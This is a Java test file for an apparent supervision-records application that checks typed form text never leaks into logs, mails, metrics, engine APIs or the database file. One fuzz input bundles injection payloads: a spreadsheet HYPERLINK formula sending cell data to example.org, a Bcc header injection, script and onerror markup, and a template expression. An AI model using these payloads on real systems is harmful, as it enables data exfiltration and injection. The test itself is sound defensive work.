package org.supervision.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertAll;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.micrometer.core.instrument.MeterRegistry;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.DisabledIfSystemProperty;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.test.context.TestPropertySource;
import org.supervision.confidential.ConfidentialColumn;
import org.supervision.confidential.ConfidentialColumns;
import org.supervision.confidential.TestCipher;
import org.supervision.notification.Outbox;
import org.supervision.reliability.Grammar;
import org.supervision.reliability.TwoAtOnce;
import org.supervision.scenario.Demo.Answer;
import org.supervision.scenario.Demo.Task;
import org.supervision.scenario.EveryForm;
import org.supervision.scenario.EveryForm.Page;
import org.supervision.scenario.TypedPage;
import org.supervision.security.Http.Browser;
import org.supervision.taskform.Crossing;
import org.supervision.taskform.TaskForm;
import org.supervision.taskform.TaskForms;

/**
 * Every form with a canary in whatever people write, in every shape, sent twice at once, and everywhere that it must not be
 * heard.
 */
@ExtendWith(OutputCaptureExtension.class)
@TestPropertySource(properties = {"logging.level.root=info", "logging.level.org.supervision=debug"})
@DirtiesContext // its database is in a folder that goes
@DisabledIfSystemProperty(named = "test.database", matches = "postgres", disabledReason = "it reads the files of H2")
class CanaryTest extends AttackTest {

    private static final String SONG = "Kanarienvogel";

    private static final List<String> EVERYBODY = List.of(
            "strategicmanager",
            "servicemanager",
            "linemanager",
            "supervisor",
            "othersupervisor",
            "cover",
            "worker",
            "nqsw",
            "otherworker",
            "processowner",
            "records",
            "auditor",
            "admin");

    /** Who supervises whom on the walk; at its end one has nobody. */
    private static final List<Set<String>> PAIRS = List.of(
            Set.of("worker"),
            Set.of("supervisor", "worker"),
            Set.of("cover", "worker"),
            Set.of("linemanager", "supervisor"),
            Set.of("servicemanager", "linemanager"),
            Set.of("strategicmanager", "servicemanager"),
            Set.of("othersupervisor", "otherworker"));

    /** A place, a reference and a note on an action are short; what is longer is refused with a message. */
    private static final Set<String> SHORT_FIELDS = Set.of(
            "book-sessions.sessions.location",
            "draft-agreement.usualLocation",
            "prepare-as-supervisee.ownActions.note",
            "prepare-as-supervisor.ownActions.note",
            "update-case-file.fileReference");

    /** What the decision that the walk takes does not ask for, and the form says of it that it is not kept. */
    private static final Set<String> LEFT_ALONE = Set.of(
            "draft-agreement.discardReason",
            "agree-new-date.location",
            "correct-address.note",
            "redact-subject-access.extensionReason",
            "write-record.leftOutReason",
            "review-disposal.files.reason");

    /** Who has to do with the disclosures of the walk, beside the two, of whom the one has taken over. */
    private static final Set<String> DISCLOSERS = Set.of("cover", "worker", "servicemanager", "records");

    /** The tasks that belong to both of a pair. */
    private static final Set<String> SHARED = Set.of("Task_BookSessions", "Task_HoldSession", "Task_AgreeNewDate");

    /** How many drafts of wrong shapes each form is sent, and the seed that they are made from. */
    private static final int BAD_INPUTS = Integer.getInteger("fuzz.form.inputs", 6);

    private static final long SEED = Long.getLong("fuzz.seed", 1);

    /** Many of the longest would only take time. */
    private static final int VERY_LONG_EVERY = 83;

    private static final List<Shape> MOST_SHAPES = List.of(Shape.SHORT, Shape.STRANGE, Shape.JUST_TOO_LONG);

    /** Typed, but no words of supervision: see the plain columns of confidential-columns.yaml. */
    private static final Set<String> NOT_CONTENT = Set.of("correct-address.address", "write-record.cases.reference");

    @TempDir
    static Path folder;

    @Autowired
    private List<TaskForm<?>> beans;

    @Autowired
    private TaskForms registered;

    @Autowired
    private Outbox outbox;

    @Autowired
    private MeterRegistry meters;

    @Autowired
    private Crossing crossing;

    private final List<Sung> sung = new ArrayList<>();
    private final Set<String> driven = new TreeSet<>();
    private final Set<String> limited = new TreeSet<>();
    private final Set<String> wordsOfItsOwn = new TreeSet<>();
    private final TreeMap<String, Set<String>> shown = new TreeMap<>();
    private int next;
    private TwoAtOnce twoAtOnce;

    @DynamicPropertySource
    static void onDisk(DynamicPropertyRegistry properties) {
        properties.add("spring.datasource.url", () -> "jdbc:h2:file:" + folder.resolve("supervision"));
    }

    /** A text that somebody typed into a field and completed. */
    private record Sung(String field, String text) {}

    private enum Shape {
        SHORT("%s, which nobody else is to hear of."),
        STRANGE(
                "=HYPERLINK(\"http://example.org/?\"&A1,\"%s\")\r\nBcc: everybody@example.org\r\n\r\n"
                        + "<b>x</b><script>x</script><img src=x onerror=x> ]]> ${now()}\t😀👩‍👧‍👦e\u0301 \u202Eשלום\u202C مرحبا"),
        JUST_TOO_LONG(4_001),
        VERY_LONG(200_000);

        private final String pattern;

        Shape(String pattern) {
            this.pattern = pattern;
        }

        /** Texts of this length. */
        Shape(int length) {
            pattern = "%s" + ", and so it goes on".repeat(length).substring(0, length - SONG.length() - 5) + ".";
        }

        String of(String canary) {
            return pattern.replace("%s", canary);
        }
    }

    @Test
    @DisplayName("cases 39, 40 and 47: what is typed into any form, in whatever shape, is kept whole, and its readers'"
            + " alone: in no engine table, file, log, mail, metric or answer")
    void nothingIsHeard(CapturedOutput log) throws IOException {
        twoAtOnce = new TwoAtOnce(demo, jdbc, crossing);
        new EveryForm(
                        demo,
                        jdbc,
                        (userId, taskKey) -> new Typist(userId, demo.as(userId).task(taskKey)))
                .walk();

        assertThat(driven).as("forms").isEqualTo(EveryForm.files());
        assertThat(registered.tasks().stream().map(EveryForm::fileOf)).containsExactlyInAnyOrderElementsOf(driven);
        assertThat(limited).as("fields with a length rule").isEqualTo(SHORT_FIELDS);
        assertThat(shown.get("resolve-missed-supervision"))
                .as("what is referred to a manager")
                .noneMatch(field -> field.startsWith("write-record"));
        assertThat(shown.get("decide-referred-disagreement"))
                .contains("write-record.disagreements.supervisorPosition", "attempt-as-supervisee.proposal")
                .noneMatch(field -> field.startsWith("write-record") && !field.contains("disagreements"));
        assertAll(
                this::assertThatItIsKeptWhole,
                this::assertThatCopiesAreTheTwosAlone,
                this::assertThatNobodyHearsItInTheEngine,
                this::assertThatMailsAndMetersAreSilent,
                this::assertThatTheDatabaseIsSilent,
                () -> assertThat(log).contains("TermsSigned").doesNotContainIgnoringCase(SONG));
    }

    /** The free-text fields of a task's form, rows as {@code cases.discussion}. */
    private List<String> freeText(String taskKey) throws IOException {
        Class<?> type = beans.stream()
                .filter(bean -> bean.tasks().contains(taskKey))
                .findFirst()
                .orElseThrow()
                .type();
        String file = EveryForm.fileOf(taskKey);
        Document form = Jsoup.parseBodyFragment(Files.readString(Path.of("forms", file + ".html")));
        List<String> fields = new ArrayList<>();
        for (Element field : form.select("textarea[data-field], input[type=text][data-field]")) {
            Element rows = field.closest("[data-rows]");
            String path = (rows == null ? "" : rows.attr("data-rows") + ".") + field.attr("data-field");
            if (isText(type, path) && !NOT_CONTENT.contains(file + "." + path)) {
                fields.add(path);
            }
        }
        return fields;
    }

    private static boolean isText(Class<?> type, String path) {
        String name = path.contains(".") ? path.substring(0, path.indexOf('.')) : path;
        return Stream.of(type.getRecordComponents())
                .filter(component -> component.getName().equals(name))
                .anyMatch(component -> path.contains(".")
                        ? isText(rowOf(component.getGenericType()), path.substring(name.length() + 1))
                        : component.getType() == String.class);
    }

    private static Class<?> rowOf(java.lang.reflect.Type list) {
        return (Class<?>) ((java.lang.reflect.ParameterizedType) list).getActualTypeArguments()[0];
    }

    /** Fills in a form by REST as a person would, and with canaries at the end. */
    private final class Typist extends TypedPage {

        private final String userId;
        private final Task task;
        private final String file;

        Typist(String userId, Task task) {
            this(userId, task, demo.as(userId).form(task));
        }

        private Typist(String userId, Task task, JsonNode form) {
            super(form.get("values").deepCopy());
            this.userId = userId;
            this.task = task;
            file = EveryForm.fileOf(task.taskKey());
            note(form);
        }

        private void note(JsonNode form) {
            String text = form.toString();
            for (Sung earlier : sung) {
                if (text.contains(songOf(earlier.text()))) {
                    shown.computeIfAbsent(file, key -> new TreeSet<>()).add(earlier.field());
                }
            }
        }

        @Override
        public Page isRefused(String... messages) {
            assertThat(save(values).get("errors")).as(task.taskKey()).isNotEmpty();
            demo.as(userId).tryComplete(task).expect(422);
            return this;
        }

        @Override
        public Page isKept() {
            save(values);
            assertThat(demo.as(userId).form(task).get("values")).isEqualTo(withoutPassword(values));
            return this;
        }

        @Override
        public void complete(Consumer<ObjectNode> rest) {
            rest.accept(values);
            boolean first = driven.add(file);
            try {
                List<String> fields = freeText(task.taskKey());
                if (first && !fields.isEmpty()) {
                    tryShapes(fields);
                }
                if (first) {
                    tryBadInput();
                }
                List<Sung> last = new ArrayList<>();
                for (String path : paths(values, fields)) {
                    String field = file + "." + withoutRow(path);
                    if (!wordsOfItsOwn.contains(field)) {
                        String text = shapeFor(field).of(canary());
                        last.add(new Sung(field, text));
                        set(values, path, text);
                    }
                }
                assertThat(save(values).get("errors")).as(task.taskKey()).isEmpty();
                if (first) {
                    assertThatOthersFindNothing();
                }
                twoAtOnce.complete(userId, task);
                sung.addAll(last);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }

        /** Each shape in turn, from form to form; the longest, which all later reads go through, now and then. */
        private Shape shapeFor(String field) {
            if (limited.contains(field)) {
                return Shape.STRANGE;
            }
            return next % VERY_LONG_EVERY == 0 ? Shape.VERY_LONG : MOST_SHAPES.get(next % MOST_SHAPES.size());
        }

        /**
         * Types what can't be kept, what is strange and what is long into all fields, rows that nobody asked for
         * included, and notes which fields take what; once a form is enough.
         */
        private void tryShapes(List<String> fields) {
            ObjectNode draft = values.deepCopy();
            for (String field : fields) {
                if (field.contains(".") && draft.withArray(rowsOf(field)).isEmpty()) {
                    draft.withArray(rowsOf(field)).addObject();
                }
            }
            List<String> paths = paths(draft, fields);
            assertThat(errors(draft, paths, "a\u0000" + canary())).as(file).containsAll(paths);

            Set<String> refused = errors(draft, paths, Shape.SHORT.of(canary()));
            assertThat(errors(draft, paths, Shape.STRANGE.of(canary())))
                    .as(file)
                    .isEqualTo(refused);
            refused.forEach(path -> wordsOfItsOwn.add(file + "." + withoutRow(path)));
            Set<String> tooLong = errors(draft, paths, Shape.JUST_TOO_LONG.of(canary()));
            tooLong.removeAll(refused);
            if (!tooLong.isEmpty()) {
                assertThat(paths).containsAll(tooLong);
                demo.as(userId).tryComplete(task).expect(422);
                tooLong.forEach(path -> limited.add(file + "." + withoutRow(path)));
            }
        }

        /** Drafts that are wrong in type, size or shape are kept as they are, and not completed while something is wrong. */
        private void tryBadInput() {
            JsonNode kept = demo.as(userId).form(task).get("values");
            for (int i = 0; i < BAD_INPUTS; i++) {
                Grammar grammar = new Grammar(SEED, file.hashCode() * 100_000L + i, EVERYBODY, SONG);
                JsonNode bad = grammar.mutated(values);
                if (bad.isObject()) {
                    ((ObjectNode) bad).remove("password");
                }
                String text = Grammar.written(bad);
                String input = "seed %d, %s %d (%s): %s"
                        .formatted(SEED, file, i, grammar.kinds(), text.substring(0, Math.min(2_000, text.length())));
                Http.Answer saved = http.basic(userId).put("/api/tasks/" + task.id() + "/form", text);
                assertThat(saved.status()).as(input).isIn(200, 400, 413);
                if (saved.status() == 200) {
                    kept = bad.deepCopy();
                    if (!saved.json().get("errors").isEmpty()) {
                        Answer refused = demo.as(userId).tryComplete(task);
                        assertThat(refused.status()).as(input).isEqualTo(422);
                        assertThat(refused.body()).as(input).doesNotContain(SONG);
                    }
                }
                assertThat(demo.as(userId).form(task).get("values").toString())
                        .as(input)
                        .isEqualTo(kept.toString().replaceAll("\\p{Cs}", "\uFFFD"));
            }
        }

        /** Saves the draft with this text in all these fields, finds it again as it was, and answers what was wrong. */
        private Set<String> errors(ObjectNode draft, List<String> paths, String text) {
            paths.forEach(path -> set(draft, path, text));
            Set<String> fields = new TreeSet<>();
            for (JsonNode error : save(draft).get("errors")) {
                assertThat(error.get("message").asText()).isNotBlank().doesNotContain(SONG);
                fields.add(error.get("field").asText());
            }
            assertThat(demo.as(userId).form(task).get("values").equals(withoutPassword(draft)))
                    .as("nothing of " + file + " is lost")
                    .isTrue();
            return fields;
        }

        private JsonNode save(ObjectNode draft) {
            return demo.as(userId)
                    .put("/api/tasks/" + task.id() + "/form", draft, null)
                    .expect(200)
                    .json();
        }

        /** Who has the task can open it, or both parties where it is theirs together; nobody sees it in the engine. */
        private void assertThatOthersFindNothing() {
            String form = "/api/tasks/" + task.id() + "/form";
            Set<String> readers = new TreeSet<>();
            for (String person : EVERYBODY) {
                Answer answer = demo.as(person).get(form);
                if (answer.status() == 200) {
                    readers.add(person);
                } else {
                    assertThat(answer.status()).as(person).isEqualTo(404);
                    assertThat(answer.body()).as(person).doesNotContain(SONG);
                }
            }
            assertThat(readers).as(task.toString()).contains(userId);
            if (readers.size() > 1) {
                assertThat(SHARED).contains(task.taskKey());
                assertThat(PAIRS).as(task.toString()).contains(readers);
            }
            for (String path : List.of("", "/variables", "/form-variables")) {
                assertThat(http.basic("admin")
                                .get("/engine-rest/task/" + task.id() + path)
                                .body())
                        .doesNotContain(SONG);
            }
        }
    }

    private String canary() {
        return SONG + "%04d".formatted(next++);
    }

    private static String songOf(String text) {
        int at = text.indexOf(SONG);
        return text.substring(at, at + SONG.length() + 4);
    }

    private static String rowsOf(String field) {
        return field.substring(0, field.indexOf('.'));
    }

    /** Where these fields are: once, or in each row that there is. */
    private static List<String> paths(ObjectNode values, List<String> fields) {
        List<String> paths = new ArrayList<>();
        for (String field : fields) {
            if (field.contains(".")) {
                for (int i = 0; i < values.withArray(rowsOf(field)).size(); i++) {
                    paths.add(field.replace(".", "[" + i + "]."));
                }
            } else {
                paths.add(field);
            }
        }
        return paths;
    }

    private static String withoutRow(String path) {
        return path.replaceAll("\\[\\d+]", "");
    }

    private static ObjectNode withoutPassword(ObjectNode values) {
        return values.deepCopy().without("password");
    }

    private void assertThatItIsKeptWhole() {
        List<String> texts = new ArrayList<>();
        for (ConfidentialColumn column : ConfidentialColumns.read().all()) {
            for (String text :
                    TestCipher.stored(jdbc, cipher, column.table(), column.name(), column.name() + " is not null")) {
                texts.add(text);
            }
        }
        String all = String.join("\n", texts);
        List<String> lost = sung.stream()
                .filter(one -> !all.contains(one.text())
                        && !all.contains(
                                JsonNodeFactory.instance.textNode(one.text()).toString()))
                .map(Sung::field)
                .toList();
        assertThat(lost).containsExactlyInAnyOrderElementsOf(LEFT_ALONE);
    }

    /** Whoever has one of somebody else's addresses finds nothing there; what the two read is text and nothing else. */
    private void assertThatCopiesAreTheTwosAlone() {
        Set<String> copies = new TreeSet<>();
        for (String person : EVERYBODY) {
            Answer list = demo.as(person).get("/api/copies").expect(200);
            assertThat(list.body()).doesNotContain(SONG);
            Jsoup.parse(list.body())
                    .select("main a[href^=/api/file/]")
                    .forEach(link -> assertThat(demo.as(person)
                                    .get(link.attr("href"))
                                    .expect(200)
                                    .body())
                            .doesNotContain(SONG));
            Jsoup.parse(list.body())
                    .select("main a[href^=/api/copies/]")
                    .forEach(link -> copies.add(link.attr("href")));
        }
        assertThat(copies).hasSizeGreaterThan(4);
        for (String copy : copies) {
            Set<String> readers = new TreeSet<>();
            for (String person : EVERYBODY) {
                Answer answer = demo.as(person).get(copy);
                if (answer.status() == 200) {
                    readers.add(person);
                    Document page = Jsoup.parse(answer.body());
                    assertThat(page.select("b, img, main script")).as(copy).isEmpty();
                } else {
                    assertThat(answer.status()).as(copy).isEqualTo(404);
                    assertThat(answer.body()).doesNotContain(SONG);
                }
            }
            // one bundle of this record is still to be prepared
            if (copy.endsWith("/SE-000001")) {
                assertThat(readers.remove("records")).isTrue();
            }
            assertThat(PAIRS).as(copy).contains(readers);
        }
        assertThat(demo.as("worker").get("/api/copies/records/SE-000001").body())
                .contains(SONG);
    }

    private void assertThatNobodyHearsItInTheEngine() {
        for (String person : EVERYBODY) {
            Browser browser = http.browser(person);
            assertThat(demo.as(person).get("/api/tasks").body()).as(person).doesNotContain(SONG);
            for (String page : List.of("/api/today", "/api/team", "/api/team/file")) {
                assertThat(demo.as(person).get(page).expect(200).body())
                        .as(person + ", " + page)
                        .doesNotContain(SONG);
            }
            assertThat(demo.as(person).get("/api/disclosures").body().contains(SONG))
                    .as(person)
                    .isEqualTo(DISCLOSERS.contains(person));
            for (String list : List.of(
                    "/task",
                    "/process-instance",
                    "/execution",
                    "/variable-instance?deserializeValues=false",
                    "/incident",
                    "/job",
                    "/event-subscription",
                    "/history/process-instance",
                    "/history/task",
                    "/history/activity-instance",
                    "/history/variable-instance",
                    "/history/detail",
                    "/history/decision-instance?includeInputs=true&includeOutputs=true",
                    "/history/job-log",
                    "/history/incident",
                    "/history/identity-link-log",
                    "/history/user-operation")) {
                assertThat(browser.get(Browser.ENGINE + list).body())
                        .as(person + ", " + list)
                        .doesNotContain(SONG);
            }
            for (String plugin : List.of(
                    "/process-instance", "/incident", "/process-definition/statistics", "/process-instance/count")) {
                assertThat(browser.get("/camunda/api/cockpit/plugin/base/default" + plugin)
                                .body())
                        .as(person + ", " + plugin)
                        .doesNotContain(SONG);
            }
        }
    }

    private void assertThatMailsAndMetersAreSilent() {
        List<Long> mails = jdbc.sql("select id from mail").query(Long.class).list();
        assertThat(mails).hasSizeGreaterThan(50);
        for (long id : mails) {
            Outbox.Opened mail = outbox.open(id).orElseThrow();
            assertThat(mail.entry().subject()).doesNotContain(SONG).doesNotContainPattern("\\p{Cntrl}");
            assertThat(mail.plain()).doesNotContain(SONG);
            if (mail.calendar() != null) {
                // an invitation says where, to the two whose place it is
                assertThat(mail.calendar().replaceAll("\r\n[ \t]", "").replaceAll("(?m)^LOCATION:.*$", ""))
                        .doesNotContain(SONG);
            }
        }
        assertThat(TestCipher.stored(jdbc, cipher, "mail", "body_html", "1 = 1"))
                .noneSatisfy(html -> assertThat(html).contains(SONG));
        assertThat(meters.getMeters().stream().map(meter -> meter.getId().toString()))
                .isNotEmpty()
                .noneSatisfy(id -> assertThat(id).contains(SONG));
        for (String path : List.of("", "/health", "/metrics", "/prometheus", "/env", "/httpexchanges", "/loggers")) {
            assertThat(http.basic("admin").get("/actuator" + path).body()).doesNotContain(SONG);
        }
    }

    /** Neither in any statement of a dump nor in the bytes of the file, drafts and left-over pages included. */
    private void assertThatTheDatabaseIsSilent() throws IOException {
        String hex = HexFormat.of().formatHex(SONG.getBytes(StandardCharsets.UTF_8));
        try (Stream<String> dump = jdbc.sql("script nosettings").query(String.class).stream()) {
            assertThat(dump.map(statement -> statement.toLowerCase(Locale.ROOT))
                            .filter(statement ->
                                    statement.contains(SONG.toLowerCase(Locale.ROOT)) || statement.contains(hex))
                            .map(statement -> statement.substring(0, Math.min(60, statement.length()))))
                    .isEmpty();
        }
        jdbc.sql("checkpoint sync").update();
        assertThat(isInTheFile("othersupervisor", StandardCharsets.UTF_8))
                .as("what is not secret is found there")
                .isTrue();
        for (Charset charset : List.of(StandardCharsets.UTF_8, StandardCharsets.UTF_16LE, StandardCharsets.UTF_16BE)) {
            assertThat(isInTheFile(SONG, charset)).as(charset.name()).isFalse();
        }
    }

    private static boolean isInTheFile(String text, Charset charset) throws IOException {
        String wanted = new String(text.getBytes(charset), StandardCharsets.ISO_8859_1);
        try (InputStream file = Files.newInputStream(folder.resolve("supervision.mv.db"))) {
            String end = "";
            for (byte[] part = file.readNBytes(1 << 20); part.length > 0; part = file.readNBytes(1 << 20)) {
                String window = end + new String(part, StandardCharsets.ISO_8859_1);
                if (window.contains(wanted)) {
                    return true;
                }
                end = window.substring(Math.max(0, window.length() - wanted.length()));
            }
        }
        return false;
    }
}
